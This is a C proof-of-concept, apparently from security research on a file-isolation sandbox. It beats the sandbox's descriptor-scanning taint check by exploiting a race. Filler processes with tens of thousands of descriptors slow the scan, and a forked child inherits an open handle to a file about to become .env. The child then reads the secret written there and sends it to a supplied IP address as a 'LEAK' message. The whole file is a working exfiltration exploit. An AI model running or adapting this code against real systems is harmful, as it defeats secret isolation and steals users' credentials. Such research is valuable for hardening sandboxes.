// forkhop IP PATH NFILL DELAY_MS [nohop]: sends PRE; starts NFILL idle processes with
// ~19,990 descriptors each (they make the late-mark scan take ~250 ms: it stats every
// descriptor of every sandbox process); then a holder H opens PATH (an ordinary file
// now), creates `ready` and waits for `.env` to appear (the user's tool renames PATH to
// .env: the watcher marks it and the late-mark scan starts, having listed /proc once).
// DELAY_MS later H forks a child C, which inherits the descriptor, and closes its own:
// when the scan reaches H it finds nothing, and C was not in the listing. C then waits
// for the secret to be written and sends it. With "nohop" H keeps the descriptor and
// does the reading itself (control: the scan finds H and the read taints).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <signal.h>
#include <time.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include "../../isolated-files-r4/send.c"
static double now(){ struct timespec t; clock_gettime(CLOCK_MONOTONIC,&t); return t.tv_sec+t.tv_nsec/1e9; }
static void reader(const char*ip,int fd,const char*who){ char first[64]={0}; pread(fd,first,63,0);
  for(int i=0;i<30000;i++){ char buf[64]={0}; pread(fd,buf,63,0);
    if(buf[0] && strncmp(buf,first,5) && strchr(buf,'\n')){
      printf("%s (pid %d) READS: %.40s\n",who,getpid(),buf);
      char m[128]; int l=snprintf(m,sizeof m,"LEAK:%s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return; }
    usleep(1000);} printf("%s: no change seen\n",who); }
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*path=argv[2];
  int np=atoi(argv[3]), delay=atoi(argv[4]), nohop=argc>5;
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  struct rlimit r; getrlimit(RLIMIT_NOFILE,&r); long nfd=r.rlim_max-10; int pp[2]; pipe(pp);
  pid_t fill[256];
  for(int i=0;i<np;i++) if((fill[i]=fork())==0){ int n=open("/dev/null",O_RDONLY);
      for(long k=64;k<nfd;k++) if(dup2(n,k)<0) break; write(pp[1],"x",1); pause(); _exit(0);}
  for(int i=0;i<np;i++){ char c; read(pp[0],&c,1);}
  printf("%d filler processes (pids %d..%d) with %ld descriptors each\n",np,np?fill[0]:0,np?fill[np-1]:0,nfd);
  pid_t h=fork();
  if(h==0){ int fd=open(path,O_RDONLY); if(fd<0){perror("open");_exit(1);}
    printf("holder H pid %d holds %s\n",getpid(),path);
    close(open("ready",O_CREAT|O_WRONLY,0644));
    while(access(".env",F_OK)!=0) usleep(100);
    double t=now(); printf("H: .env appeared\n");
    if(nohop){ reader(ip,fd,"H"); _exit(0); }
    usleep(delay*1000);
    pid_t c=fork();
    if(c==0){ reader(ip,fd,"child C"); _exit(0); }
    close(fd); printf("H: forked C (pid %d) %.1f ms after .env appeared, closed its own descriptor\n",c,(now()-t)*1e3);
    waitpid(c,0,0); _exit(0); }
  waitpid(h,0,0); for(int i=0;i<np;i++) kill(fill[i],SIGKILL); while(wait(0)>0); return 0; }
